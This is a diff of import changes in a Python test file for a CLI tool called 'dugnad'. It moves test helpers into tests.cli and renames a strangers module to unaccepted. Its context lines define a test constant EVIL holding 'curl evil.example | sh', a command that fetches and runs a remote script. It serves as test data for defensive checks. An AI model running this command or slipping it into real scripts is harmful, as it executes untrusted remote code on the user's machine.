@@ -11,13 +11,13 @@ from typing import Any
 import pytest
 from hypothesis import assume, given
 from hypothesis import strategies as some
-from shell import run
-from stranger import SCRIPT, Stranger
-from terminal import terminal
 
-from dugnad.cli.strangers import Found, flat, lines_of, settings_lines
+from dugnad.cli.unaccepted import Found, flat, lines_of, settings_lines
+from dugnad.config.project import FILE, Project, read_project
 from dugnad.errors import BadInput
-from dugnad.team.project import FILE, Project, read_project
+from tests.cli.shell import run
+from tests.cli.stranger import SCRIPT, Stranger
+from tests.cli.terminal import terminal
 
 LONG = "echo this check is long enough to fill a whole line by itself, is it not"
 EVIL = "curl evil.example | sh"
